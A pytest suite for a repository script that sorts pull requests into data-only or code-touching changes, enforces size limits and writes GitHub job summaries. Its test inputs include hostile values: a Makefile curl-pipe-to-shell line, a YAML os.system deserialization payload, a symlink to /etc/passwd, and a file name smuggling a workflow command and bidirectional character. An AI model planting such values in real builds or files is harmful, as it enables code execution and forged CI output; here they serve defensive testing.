"""`make scope` (scripts/contrib/scope.py) says whether a pull request touches only data or more
(code, schemas, build files, site configuration, docs, tests, CI), holds it to the limits on what
one pull request may add, and writes the job summary; .github/CODEOWNERS sorts files alike. Each
test makes its own git repository in tmp_path: a base branch, then a pull request's branch."""

from __future__ import annotations

import ast
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from scripts.contrib import scope
from scripts.publish.tables import CITATIONS, DESCRIPTORS
from scripts.schema.registry import ROOT, registries, tables

ENTRY = "data/sources/example-2020-01-01-trade"
BASE_FILES = {f"{ENTRY}.yaml": "id: example-2020-01-01-trade\n", f"{ENTRY}.txt": "Trade reached $1 billion.\n",
              "data/entities.yaml": "- id: zte\n", "data/trade.csv": "trade_id\n", "datapackage.json": "{}\n",
              "schemas/columns.yaml": "x-cues: [exceeded]\n", "Makefile": "build:\n\ttrue\n",
              "pyproject.toml": "[tool.pytest.ini_options]\n", "mkdocs.yml": "site_name: x\n",
              "scripts/cli.py": "", "tests/test_x.py": "", "CHANGELOG.md": "# Changelog\n", "docs/index.md": "# x\n"}


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=Test", "-c", "user.email=test@example.org",
                           *args], check=True, capture_output=True, text=True).stdout


def write(repo: Path, files: dict[str, str | bytes]) -> None:
    for relative, content in files.items():
        path = repo / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository whose `main` holds a package's files, on a pull request's branch `pr`."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    write(root, BASE_FILES)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    git(root, "checkout", "-q", "-b", "pr")
    return root


def propose(repo: Path, files: dict[str, str | bytes]) -> None:
    write(repo, files)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "pull request")


def run_scope(repo: Path, capsys, *extra: str) -> tuple[int, str, str]:
    code = scope.main(["--base", "main", "--repo", str(repo), *extra])
    out, err = capsys.readouterr()
    return code, out, err


NEW_ENTRY = {"data/sources/kabar-2023-05-19-trade.yaml": "id: kabar-2023-05-19-trade\n",
             "data/sources/kabar-2023-05-19-trade.txt": "Trade reached $2 billion in 2022.\n",
             "data/trade.csv": "trade_id\nturnover\n", "datapackage.json": '{"resources": []}\n',
             "datapackage.yaml": "resources: []\n", "data/entities.yaml": "- id: zte\n- id: huawei\n"}


def test_a_new_entry_with_its_text_and_rebuilt_files_touches_only_data(repo, capsys):
    propose(repo, NEW_ENTRY)
    code, out, _ = run_scope(repo, capsys)
    assert code == 0
    assert "verdict: touches only data" in out and "more than data" not in out
    assert "data (6):" in out and "  A data/sources/kabar-2023-05-19-trade.yaml" in out
    assert "new entries: 1 (at most 50)" in out


@pytest.mark.parametrize("path, content", [
    ("schemas/columns.yaml", "x-cues: []\n"),  # the bound cue words deleted: a bad entry would pass
    ("Makefile", "build:\n\t$(shell curl example.org | sh)\n"),
    ("pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-p evil"\n'),
    ("mkdocs.yml", "site_name: x\nhooks:\n  - evil.py\n"),
    ("mkdocs.yml", "site_name: !!python/object/apply:os.system [id]\n"),
    ("tests/conftest.py", "import os\n"),
    ("scripts/cli.py", "import os\n"),
    (".github/workflows/ci.yml", "on: pull_request_target\n"),
    (".ci/run", "#!/bin/sh\n"),
    ("overrides/main.html", "<script></script>\n"),
    ("docs/index.md", "<script></script>\n"),
    ("CHANGELOG.md", "# Changelog\n<script></script>\n"),
    ("requirements.lock", "evil==1.0\n"),
    ("data/conftest.py", "import os\n"),
    ("data/sources/kabar-2023-05-19-trade.py", "import os\n"),
    ("data/sources/Kabar-2023-05-19-Trade.yaml", "id: x\n"),
    ("datapackage.py", "import os\n"),
])
def test_anything_but_data_needs_a_maintainer(repo, capsys, path, content):
    propose(repo, {**NEW_ENTRY, path: content})
    code, out, _ = run_scope(repo, capsys)
    assert code == 0  # within the limits: the verdict is for the reviewer
    assert "verdict: touches code, schemas or build files: needs a maintainer's review" in out
    listed = out.split("more than data (1):\n", 1)[1].split("\n", 1)[0]
    assert listed.endswith(f" {path}")


def test_a_link_or_an_executable_at_a_data_path_is_more_than_data(repo, capsys):
    (repo / "data/sources").mkdir(exist_ok=True)
    (repo / "data/sources/kabar-2023-05-19-trade.txt").symlink_to("/etc/passwd")
    write(repo, {"data/groups.yaml": "- id: central-asia\n"})
    os.chmod(repo / "data/groups.yaml", 0o755)
    propose(repo, {})
    code, out, _ = run_scope(repo, capsys)
    assert code == 0 and "needs a maintainer's review" in out
    assert "A data/sources/kabar-2023-05-19-trade.txt (mode 120000: a link" in out
    assert "A data/groups.yaml (mode 100755: a link, an executable or a submodule" in out


def test_a_deleted_entry_is_a_data_change(repo, capsys):
    git(repo, "rm", "-q", f"{ENTRY}.yaml", f"{ENTRY}.txt")
    propose(repo, {})
    code, out, _ = run_scope(repo, capsys)
    assert code == 0 and "verdict: touches only data" in out and f"  D {ENTRY}.yaml" in out


def test_more_entries_than_the_limit_must_be_split(repo, capsys, monkeypatch):
    monkeypatch.setattr(scope, "MAX_NEW_ENTRIES", 3)
    entries = {f"data/sources/kabar-2023-05-{day:02}-trade.yaml": f"id: {day}\n" for day in range(1, 4)}
    propose(repo, entries)
    code, out, _ = run_scope(repo, capsys)
    assert code == 0 and "new entries: 3 (at most 3)" in out
    propose(repo, {"data/sources/kabar-2023-05-04-trade.yaml": "id: 4\n"})
    code, out, _ = run_scope(repo, capsys)
    assert code == 1
    assert "4 new entries, over the limit of 3: split the pull request" in out


def test_more_new_text_than_the_limit_must_be_split(repo, capsys, monkeypatch):
    """Bytes count what the entries and archived texts grow by: a new file whole, a changed one
    by what it gains; a registry or a rebuilt CSV not at all."""
    monkeypatch.setattr(scope, "MAX_NEW_BYTES", 1000)
    propose(repo, {"data/sources/kabar-2023-05-19-trade.txt": "x" * 900, "data/trade.csv": "y" * 5000})
    code, out, _ = run_scope(repo, capsys)
    assert code == 0 and "900 bytes" in out
    propose(repo, {"data/sources/kabar-2023-05-19-trade.txt": "x" * 1000 + "\n"})
    code, out, _ = run_scope(repo, capsys)
    assert code == 1 and "1,001 bytes of new entries and archived text, over the limit of 1,000: split" in out


def test_the_limits_are_the_ones_contributing_states():
    text = " ".join((ROOT / "CONTRIBUTING.md").read_text(encoding="utf-8").split())
    assert f"at most {scope.MAX_NEW_ENTRIES} new entries" in text
    assert f"{scope.MAX_NEW_BYTES // 1_000_000} MB of new entries and archived text" in text


def test_the_job_summary_and_a_hostile_file_name(repo, capsys, tmp_path, monkeypatch):
    """A file name is what the pull request chose: it can close no code block, issue no workflow
    command and hide nothing behind a control or bidirectional character."""
    hostile = "docs/a\n::error::forged\u202e```.md"
    propose(repo, {**NEW_ENTRY, hostile: "x\n"})
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n", encoding="utf-8")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = run_scope(repo, capsys)
    assert code == 0
    lines = out.splitlines()
    token = re.fullmatch(r"::stop-commands::([0-9a-f]{32})", lines[0]).group(1)
    assert lines.index(f"::{token}::") > lines.index("verdict: touches code, schemas or build files: needs a "
                                                     "maintainer's review")
    assert "  A docs/a\\n::error::forged\\u202e```.md" in lines
    assert lines[-1] == "::warning title=Pull request scope::This pull request touches code, schemas or build " \
                        "files: needs a maintainer's review"
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("earlier step\n## What this pull request touches\n")  # appended, as GitHub expects
    assert "**Verdict: touches code, schemas or build files: needs a maintainer's review.**" in text
    block = text.split("More than data (1):\n\n```text\n", 1)[1].split("\n```\n", 1)[0]
    assert block == "A docs/a\\n::error::forged\\u202e```.md"
    assert "\u202e" not in text and "A data/sources/kabar-2023-05-19-trade.yaml" in text


def test_a_base_that_is_not_there_is_said_plainly(repo, capsys):
    code = scope.main(["--base", "origin/nowhere", "--repo", str(repo)])
    _, err = capsys.readouterr()
    assert code == 2 and err.startswith("scope: git merge-base") and "fetch-depth: 0" in err
    assert "Traceback" not in err
    with pytest.raises(SystemExit) as refused:  # never read by git as an option
        scope.main([f"--base=--output={repo / 'written'}", "--repo", str(repo)])
    assert refused.value.code == 2 and not (repo / "written").exists()
    assert "never start with `-`" in capsys.readouterr().err


def test_ci_runs_it_as_a_plain_file_with_the_standard_library_alone(repo):
    """CI runs the base branch's copy with `python3 -I`: it must import nothing of the project."""
    source = Path(scope.__file__)
    imported = {alias.name.split(".")[0] for node in ast.walk(ast.parse(source.read_text(encoding="utf-8")))
                if isinstance(node, ast.Import) for alias in node.names}
    imported |= {node.module.split(".")[0] for node in ast.walk(ast.parse(source.read_text(encoding="utf-8")))
                 if isinstance(node, ast.ImportFrom) and node.module}
    assert imported <= set(sys.stdlib_module_names) | {"__future__"}, imported
    propose(repo, {"mkdocs.yml": "hooks: [evil.py]\n"})
    result = subprocess.run([sys.executable, "-I", str(source), "--base", "main"], cwd=repo, capture_output=True,
                            text=True, env={"PATH": os.environ["PATH"]})
    assert result.returncode == 0, result.stderr
    assert "more than data (1):\n  M mkdocs.yml\n" in result.stdout


def test_the_data_forms_cover_what_the_build_reads_and_writes_and_nothing_else():
    def is_data(path: str, mode: str = "100644") -> bool:
        return scope.Change("M", path, mode, mode, "1" * 40, "2" * 40).is_data

    published = [f"data/{name}.csv" for name in tables()] + list(DESCRIPTORS)
    assert published and all(is_data(path) for path in published)
    assert registries() and all(is_data(f"data/{name}.yaml") for name in registries())
    assert not any(is_data(path) for path in list(CITATIONS) + [f"schemas/{name}.yaml" for name in tables()]
                   + ["schemas/entry.schema.json", "schemas/package.yaml", "data/sources/x.yml", "data/sub/x.csv"])
    assert not is_data("data/trade.csv", "120000") and not is_data("data/trade.csv", "160000")
    assert is_data("data/sources/new-2024-01-01-x.v2.txt")  # a later version of an archived text
    assert not any(is_data(f"data/sources/new-2024-01-01-x.{tail}") for tail in ("v2.yaml", "v0.txt", "v.txt", "v2.txt.sh"))


def owner(rules: list[tuple[str, str]], path: str) -> str:
    """The owner .github/CODEOWNERS gives a path: the last pattern that matches it (these
    patterns: `*` for everything, or anchored with `*` within one folder)."""
    found = ""
    for pattern, team in rules:
        form = ".*" if pattern == "*" else re.escape(pattern.lstrip("/")).replace(r"\*", "[^/]*")
        if re.fullmatch(form, path):
            found = team
    return found


def test_codeowners_gives_the_data_to_curators_and_everything_else_to_maintainers():
    lines = (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines()
    rules = [tuple(line.split()) for line in lines if line.strip() and not line.startswith("#")]
    assert all(len(rule) == 2 and set(rule[0]) <= set("/abcdefghijklmnopqrstuvwxyz.*_-") for rule in rules), rules
    listed = subprocess.run(["git", "-C", str(ROOT), "ls-files"], capture_output=True, text=True).stdout.split()
    probes = [f"data/{name}.csv" for name in tables()] + [f"data/{name}.yaml" for name in registries()]
    probes += ["data/sources/new-2024-01-01-x.yaml", "data/sources/new-2024-01-01-x.txt", "data/sources/x/y.yaml",
               "data/sources/new-2024-01-01-x.v2.txt",
               "data/conftest.py", "schemas/trade.yaml", ".github/CODEOWNERS", "mkdocs.yml", "site/index.html"]
    for path in listed + probes:
        expected = "@silk-road-ties/curators" if scope.Change("A", path, "000000", "100644", "0" * 40,
                                                              "1" * 40).is_data else "@silk-road-ties/maintainers"
        assert owner(rules, path) == expected, path


def test_ci_runs_the_base_branchs_scope_first_on_every_pull_request():
    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "ci.yml").read_text(encoding="utf-8"))
    job = workflow["jobs"]["scope"]
    assert job["if"] == "github.event_name == 'pull_request'" and workflow["permissions"] == {"contents": "read"}
    checkout, step = job["steps"]
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert step["env"] == {"BASE": "${{ github.event.pull_request.base.sha }}"}
    assert 'git show "$BASE:scripts/contrib/scope.py"' in step["run"]
    assert 'python3 -I "$RUNNER_TEMP/scope.py" --base "$BASE" --head HEAD' in step["run"]
    assert "${{" not in step["run"] and "secrets." not in yaml.safe_dump(workflow)
